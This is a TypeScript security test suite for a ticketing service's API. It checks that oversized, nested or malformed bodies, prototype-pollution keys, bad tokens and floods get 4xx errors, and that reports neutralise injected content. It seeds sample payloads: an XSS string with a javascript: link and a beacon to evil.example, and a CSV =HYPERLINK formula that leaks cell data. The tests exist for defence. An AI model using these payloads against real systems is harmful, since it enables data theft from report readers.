import { gzipSync } from 'node:zlib';
import jwt from 'jsonwebtoken';
import { chromium } from 'playwright-core';
import request from 'supertest';
import { loadConfig } from '@itsm/config';
import { EVENT_STORE, type EventStore } from '@itsm/event-store';
import { Projector } from '@itsm/projections';
import { MovableClock } from '@itsm/test-kit';
import { seedCatalogue } from './support/catalogue-seed';
import { CHROMIUM_ARGS, ensureChromium } from './support/chromium';
import { startTestApp } from './support/test-app';

/**
 * Issue 16, "Hostile input and load": what an attacker, a careless client or a flood sends gets a
 * 4xx problem+json naming the field and the rule (never a 500), and nothing an operator types can
 * turn a report into a weapon (stored XSS in the HTML summary, formulas in CSV).
 */
const T0 = Date.parse('2023-07-03T08:00:00Z');
const MIN = 60_000;
const SECRET = 'e2e-secret-at-least-16-chars';
let t: Awaited<ReturnType<typeof startTestApp>>;
let clock: MovableClock;
let admin: string;
let operator: string;
let reporter: string;
let store: EventStore;

const RAISE = { kind: 'incident', priority: 'P1', serviceId: 'printing', description: 'd', reporter: 'r', channel: 'phone' };
const HOSTILE_TEXT = '[click me](javascript:alert(document.cookie)) ![pixel](https://evil.example/p.png) <img src=x onerror=alert(1)> **bold** `code`';

beforeAll(async () => {
  clock = new MovableClock(T0);
  t = await startTestApp({}, clock);
  admin = t.auth({ roles: ['admin'], tenants: ['*'] });
  operator = t.auth({ roles: ['operator'], tenants: ['CoL'] });
  reporter = t.auth({ roles: ['reporter'], tenants: ['CoL'] });
  store = t.app.get(EVENT_STORE);
  await seedCatalogue(t.http, admin);
  await request(t.http)
    .post('/v1/tenants/CoL/sla-policies')
    .set('Authorization', admin)
    .send({ template: 'city-of-london-2023', effectiveFrom: '2023-01-01T00:00:00Z' })
    .expect(201);
  const cmd = async (path: string, body: object, minute: number) => {
    clock.set(T0 + minute * MIN);
    const res = await request(t.http)
      .post(`/v1/tenants/CoL/tickets${path}`)
      .set('Authorization', operator)
      .send({ ...body, occurredAt: new Date(T0 + minute * MIN).toISOString() });
    if (res.status >= 300) throw new Error(`${path}: ${res.status} ${JSON.stringify(res.body)}`);
  };
  await cmd('', { ...RAISE, ticketId: 'X1', title: '=HYPERLINK("https://evil.example/?"&A1,"Click for details")' }, 0);
  await cmd('/X1/respond', { respondedBy: 'desk' }, 5);
  await cmd(
    '/X1/resolve',
    { resolutionCode: 'fixed', rootCause: HOSTILE_TEXT, resolution: HOSTILE_TEXT, resolvedByGroupId: 'desktop', firstLineFix: false },
    60,
  );
  await cmd('', { ...RAISE, ticketId: 'X2', title: '-2+3' }, 70);
  await cmd('', { ...RAISE, ticketId: 'X3', title: '@SUM(1+1)' }, 71);
  await t.app.get(Projector).catchUp();
});
afterAll(() => t?.stop());

const expectProblem = (res: request.Response, status: number, field?: string) => {
  expect({ status: res.status, type: res.headers['content-type'] }).toEqual({ status, type: expect.stringMatching(/^application\/problem\+json/) });
  const body = JSON.parse(res.text);
  expect(body).toMatchObject({ status, code: expect.any(String), type: expect.stringMatching(/^urn:itsm:problem:/) });
  if (field) expect(body.errors).toEqual(expect.arrayContaining([expect.objectContaining({ field, rule: expect.any(String) })]));
  return body;
};
const raise = () => request(t.http).post('/v1/tenants/CoL/tickets').set('Authorization', operator);

describe('bodies', () => {
  it('a body over the size limit is a 413 problem, not a 500', async () => {
    const res = await raise().send({ ...RAISE, ticketId: 'BIG', title: 't', description: 'x'.repeat(300_000) });
    expectProblem(res, 413);
    expect(res.body.code).toBe('REQUEST.TOO_LARGE');
  });

  it('JSON nested 5,000 deep is a 400 naming the body and the depth rule', async () => {
    for (const deep of [
      '['.repeat(5000) + ']'.repeat(5000),
      '{"a":'.repeat(5000) + '1' + '}'.repeat(5000),
      `{"title":${'['.repeat(5000)}${']'.repeat(5000)}}`,
    ]) {
      const res = await raise().set('Content-Type', 'application/json').send(deep);
      const body = expectProblem(res, 400, 'body');
      expect(body.errors[0].rule).toBe('maxDepth');
    }
    // Brackets inside strings are text, not depth.
    const res = await raise()
      .set('Content-Type', 'application/json')
      .send(JSON.stringify({ ...RAISE, ticketId: 'BRACKETS', title: '[{'.repeat(90), description: '{"a":['.repeat(1000) }));
    expect(res.status).toBe(201);
  });

  it('malformed JSON is a 400 problem', async () => {
    const res = await raise().set('Content-Type', 'application/json').send('{"ticketId": ');
    expectProblem(res, 400, 'body');
  });

  it('Content-Encoding: gzip is accepted and inflated; the size limit counts the inflated bytes; a broken or unknown encoding is a 4xx', async () => {
    // fetch sends the bytes as they are (supertest would serialise a Buffer as JSON).
    const post = async (encoding: string, body: Buffer) => {
      const res = await fetch(`${t.http}/v1/tenants/CoL/tickets`, {
        method: 'POST',
        headers: { authorization: operator, 'content-type': 'application/json', 'content-encoding': encoding },
        body,
      });
      return { status: res.status, headers: { 'content-type': res.headers.get('content-type') ?? '' }, text: await res.text() } as unknown as request.Response;
    };
    const ok = await post('gzip', gzipSync(JSON.stringify({ ...RAISE, ticketId: 'GZ1', title: 'zipped' })));
    expect(ok.status).toBe(201);
    expect(JSON.parse(ok.text).ticketId).toBe('GZ1');
    expectProblem(await post('gzip', gzipSync(Buffer.alloc(20_000_000, 0x20))), 413); // 20 MB of spaces in ~20 kB
    expectProblem(await post('gzip', Buffer.from('not gzip at all')), 400, 'Content-Encoding');
    expectProblem(await post('compress', Buffer.from('{}')), 415, 'Content-Encoding');
  });

  it('a key named constructor, __proto__ or prototype at any depth is a 400 naming it, never a 500', async () => {
    const before = await store.headPosition();
    // Before: class-transformer crashed on a nested `constructor` key (500) on every route taking a body.
    for (const key of ['constructor', '__proto__', 'prototype']) {
      const nested = `{"ticketId":"K1","tenantId":"CoL","kind":"incident","priority":"P3","serviceId":"printing","title":"t","description":"d","reporter":"r","channel":"phone","extra":{"${key}":"x"}}`;
      const res = await raise().set('Content-Type', 'application/json').send(nested);
      expect(expectProblem(res, 400, 'body').errors[0]).toMatchObject({ rule: 'forbiddenKey' });
      expect(expectProblem(await raise().set('Content-Type', 'application/json').send(`{"${key}":{"a":1}}`), 400, 'body').detail).toContain(key);
    }
    expect(await store.headPosition()).toBe(before);
  });

  it('a refused body leaves nothing in the log', async () => {
    const before = await store.headPosition();
    await raise().set('Content-Type', 'application/json').send('['.repeat(5000));
    await raise().send({ ...RAISE, ticketId: 'BIG2', title: 't', description: 'x'.repeat(300_000) });
    expect(await store.headPosition()).toBe(before);
  });
});

describe('query parameters and paths', () => {
  it('a crafted cursor (an operator object instead of a value) is a 400 naming cursor', async () => {
    const res = await request(t.http).get('/v1/tenants/CoL/reports/tickets?cursor=W3siJGd0IjoxfSwieCJd').set('Authorization', reporter);
    expectProblem(res, 400, 'cursor');
  });

  it('asOfRecorded in a form the API does not read (ISO week date, ordinal date) is a 400 naming it', async () => {
    for (const value of ['2023-W27-1', '2023-184', '2023-07-03T25:00:00Z', '2023-02-30T00:00:00Z', '99999-01-01T00:00:00Z']) {
      const res = await request(t.http)
        .get(`/v1/tenants/CoL/reports/demand?asOfRecorded=${encodeURIComponent(value)}`)
        .set('Authorization', reporter);
      expectProblem(res, 400, 'asOfRecorded');
    }
    expect((await request(t.http).get('/v1/tenants/CoL/reports/demand?asOfRecorded=2023-07-03T09:00:00Z').set('Authorization', reporter)).status).toBe(200);
  });

  it('/dashboard/<an Object.prototype name> is a 404, like any other unknown asset', async () => {
    for (const name of ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf']) {
      expectProblem(await request(t.http).get(`/dashboard/${name}`), 404);
    }
    expect((await request(t.http).get('/dashboard/dashboard.js')).status).toBe(200);
  });
});

describe('bearer tokens', () => {
  const sign = (claims: object, options: jwt.SignOptions = {}) =>
    `Bearer ${jwt.sign({ roles: ['operator'], tenants: ['*'], ...claims }, SECRET, { algorithm: 'HS256', issuer: 'itsm', subject: 'mallory', ...options })}`;
  const tenants = (auth: string) => request(t.http).get('/v1/tenants').set('Authorization', auth);

  it('a token without exp is refused', async () => {
    const body = expectProblem(await tenants(sign({})), 401);
    expect(body.code).toBe('AUTH.TOKEN_INVALID');
    expect(body.detail).toMatch(/exp/);
  });

  it('a token that lives longer than ITSM_TOKEN_MAX_TTL (default 30 days) is refused', async () => {
    expectProblem(await tenants(sign({}, { expiresIn: '365d' })), 401);
    expectProblem(await tenants(sign({ iat: Math.floor(Date.now() / 1000) - 10 * 86400 }, { expiresIn: '31d' })), 401);
    expect((await tenants(sign({}, { expiresIn: '29d' }))).status).toBe(200);
  });
});

describe('SLA policies', () => {
  it('duplicate warning thresholds are refused naming warningThresholdsPct (each crossing would be recorded twice)', async () => {
    const before = await store.headPosition();
    const res = await request(t.http)
      .post('/v1/tenants/CoL/sla-policies')
      .set('Authorization', admin)
      .send({ template: 'city-of-london-2023', effectiveFrom: '2024-01-01T00:00:00Z', warningThresholdsPct: [50, 50] });
    const body = expectProblem(res, 422, 'warningThresholdsPct');
    expect(body.code).toBe('SLA_POLICY.DUPLICATE_THRESHOLD');
    expect(await store.headPosition()).toBe(before);
  });
});

describe('report answers', () => {
  it('CSV: a cell that starts with = + - @ is neutralised with a leading quote; numbers stay numbers', async () => {
    const res = await request(t.http)
      .get('/v1/tenants/CoL/reports/tickets?sort=raisedAt&order=asc')
      .set('Authorization', reporter)
      .set('Accept', 'text/csv')
      .expect(200);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(res.text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click for details"")"`);
    expect(res.text).toMatch(/(^|,)'-2\+3(,|$)/m);
    expect(res.text).toMatch(/(^|,)'@SUM\(1\+1\)(,|$)/m);
  });

  it('the HTML summary carries no script, no javascript: link and no remote resource, under a strict CSP', async () => {
    const res = await request(t.http)
      .get('/v1/tenants/CoL/reports/service-delivery-summary?month=2023-07&format=html')
      .set('Authorization', reporter)
      .expect(200);
    const csp = res.headers['content-security-policy'];
    expect(csp).toMatch(/default-src 'none'/);
    expect(csp).not.toMatch(/script-src/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.text).toContain('click me'); // the operator's words are still there, as text
    expect(res.text).not.toMatch(/javascript:[^<]*<\/a>|href="javascript:/i);
    expect(res.text).not.toMatch(/<(img|script|a|iframe|object|embed|link)[\s>/]/i);
    expect(res.text).not.toMatch(/<[^>]*\s(on\w+|href|src|style)=/i); // no handler, URL or style attribute on any tag
    expect(res.text).toContain('&lt;img src=x onerror=alert(1)&gt;'); // shown as the text it was
  });

  const browserAvailable = ensureChromium();
  if ('skipped' in browserAvailable) console.warn(`SKIPPED: HTML summary under its CSP in a browser: ${browserAvailable.skipped}`);
  ('path' in browserAvailable ? it : it.skip)(
    'in Chromium, the HTML summary renders its styles and charts under its CSP, runs nothing and fetches nothing',
    async () => {
      const browser = await chromium.launch({ executablePath: (browserAvailable as { path: string }).path, args: CHROMIUM_ARGS });
      try {
        const page = await browser.newPage();
        const logged: string[] = [];
        const requested: string[] = [];
        let dialogs = 0;
        page.on('console', (m) => logged.push(`${m.type()}: ${m.text()}`));
        page.on('request', (r) => requested.push(r.url()));
        page.on('dialog', (d) => (dialogs++, void d.dismiss()));
        await page.setExtraHTTPHeaders({ Authorization: reporter });
        const url = `${t.http}/v1/tenants/CoL/reports/service-delivery-summary?month=2023-07&format=html`;
        expect((await page.goto(url, { waitUntil: 'load' }))?.status()).toBe(200);
        // What the page itself logged (CSP violations among it); later, the sandbox also blocks the test's own probes.
        expect(logged).toEqual([]);
        expect(await page.locator('svg').count()).toBeGreaterThanOrEqual(3);
        expect(await page.$eval('h2', (h) => h.ownerDocument.defaultView!.getComputedStyle(h).borderBottomStyle)).toBe('solid'); // the inline <style> applies
        expect(await page.locator('a, img, script').count()).toBe(0);
        await page.locator('td', { hasText: 'click me' }).first().click();
        expect({ requested, dialogs }).toEqual({ requested: [url], dialogs: 0 });
      } finally {
        await browser.close();
      }
    },
    60_000,
  );

  it('the Markdown summary escapes operator text, so no renderer makes it a link or an image', async () => {
    const res = await request(t.http)
      .get('/v1/tenants/CoL/reports/service-delivery-summary?month=2023-07&format=md')
      .set('Authorization', reporter)
      .expect(200);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.text).not.toContain('[click me](javascript:');
    expect(res.text).not.toContain('![pixel](https:');
    expect(res.text).toContain('\\[click me\\]');
  });
});

describe('rate limits', () => {
  it('are generous by default and configurable by ITSM_RATE_LIMIT_PER_MINUTE', () => {
    // The bench and the soak send about 3,000 requests a second as one principal.
    expect(loadConfig({}).rateLimitPerMinute).toBeGreaterThanOrEqual(300_000);
    expect(loadConfig({ ITSM_RATE_LIMIT_PER_MINUTE: '120' }).rateLimitPerMinute).toBe(120);
    expect(loadConfig({ ITSM_RATE_LIMIT_PER_MINUTE: '0' }).rateLimitPerMinute).toBe(0);
    expect(() => loadConfig({ ITSM_RATE_LIMIT_PER_MINUTE: 'lots' })).toThrow(/ITSM_RATE_LIMIT_PER_MINUTE/);
  });

  it('answer 429 with Retry-After per principal (the token sub), and per IP without a valid token', async () => {
    const limited = await startTestApp({ rateLimitPerMinute: 5 });
    try {
      const alice = limited.auth({ sub: 'alice', roles: ['reporter'], tenants: ['CoL'] });
      const aliceAgain = limited.auth({ sub: 'alice', roles: ['operator'], tenants: ['*'] });
      const bob = limited.auth({ sub: 'bob', roles: ['reporter'], tenants: ['CoL'] });
      for (let i = 0; i < 3; i++) expect((await request(limited.http).get('/v1/tenants').set('Authorization', alice)).status).toBe(200);
      for (let i = 0; i < 2; i++) expect((await request(limited.http).get('/v1/tenants').set('Authorization', aliceAgain)).status).toBe(200);
      const refused = await request(limited.http).get('/v1/tenants').set('Authorization', alice);
      const body = expectProblem(refused, 429);
      expect(body.code).toBe('RATE_LIMITED');
      expect(Number(refused.headers['retry-after'])).toBeGreaterThanOrEqual(1);
      expect(Number(refused.headers['retry-after'])).toBeLessThanOrEqual(60);
      // Another principal from the same address has its own allowance.
      expect((await request(limited.http).get('/v1/tenants').set('Authorization', bob)).status).toBe(200);
      // Without a (valid) token the address is the key: open routes and refused tokens alike.
      for (let i = 0; i < 3; i++) expect((await request(limited.http).get('/health')).status).toBe(200);
      expect((await request(limited.http).get('/v1/tenants').set('Authorization', 'Bearer forged')).status).toBe(401);
      expect((await request(limited.http).get('/v1/tenants')).status).toBe(401);
      expectProblem(await request(limited.http).get('/health'), 429);
      expectProblem(await request(limited.http).get('/v1/tenants').set('Authorization', 'Bearer forged'), 429);
      expect((await request(limited.http).get('/v1/tenants').set('Authorization', bob)).status).toBe(200);
    } finally {
      await limited.stop();
    }
  });
});
